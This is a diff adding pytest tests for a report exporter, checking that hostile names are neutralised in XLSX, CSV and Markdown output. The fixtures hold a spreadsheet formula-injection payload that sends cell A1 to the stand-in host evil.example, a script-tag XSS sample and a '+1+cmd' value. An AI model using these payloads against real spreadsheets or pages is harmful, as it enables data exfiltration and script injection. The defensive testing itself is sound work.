@@ -161,6 +161,50 @@ def test_csv_parses_with_one_row_per_unit_and_indicator(tree, users, book):
     assert clarified["10002child"]["value"] == "406"
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+SCRIPT = "<script>alert(1)</script>"
+
+
+@pytest.fixture
+def hostile_names(tree, users, book):
+    """A commune named as a formula, another as a script, a commended position that is one."""
+    from antq.areas.models import Area
+    from antq.honours.tests.helpers import approve, individual
+
+    Area.objects.filter(pk=tree.a.pk).update(name=FORMULA)
+    Area.objects.filter(pk=tree.b.pk).update(name=SCRIPT)
+    approve(users.p_approver, individual(users.p_approver, tree.a, position="+1+cmd"))
+
+
+def _live(value):
+    return isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_xlsx_and_csv_hold_names_as_inert_text(tree, users, hostile_names):
+    from openpyxl import load_workbook
+
+    report = build_report(users.p_approver, tree.p, START, END, "en")
+    wb = load_workbook(io.BytesIO(render(report, "xlsx")[0]))
+    for ws in wb.worksheets[1 : 1 + len(report.sections)]:
+        assert "'" + FORMULA in [c.value for c in ws["B"]], ws.title
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
+    assert not [c.value for c in cells if c.data_type == "f" or _live(c.value)]
+    assert "'+1+cmd" in [c.value for c in cells]
+    tallies = [s.group for s in report.sections].index("tallies")
+    assert 3541 in [c.value for c in wb.worksheets[1 + tallies][wb.worksheets[1].max_row]]
+    rows = list(csv.reader(io.StringIO(render(report, "csv")[0])))
+    fields = [f for row in rows for f in row]
+    assert "'" + FORMULA in fields and "'+1+cmd" in fields
+    assert not [f for f in fields if _live(f)]
+
+
+def test_markdown_shows_names_as_text(tree, users, hostile_names):
+    md = render(build_report(users.p_approver, tree.p, START, END, "en"), "md")[0]
+    assert "<script>" not in md
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md
+    assert '=HYPERLINK("http://evil.example/?leak="&amp;A1,"x")' in md
+
+
 def test_command_writes_each_format(tree, users, book, tmp_path, capsys):
     common = ["--area", "44", "--from", "2025-01-01", "--to", "2025-12-31", "--user", "root_admin"]
     call_command("report", *common, "--lang", "en", "--format", "md")
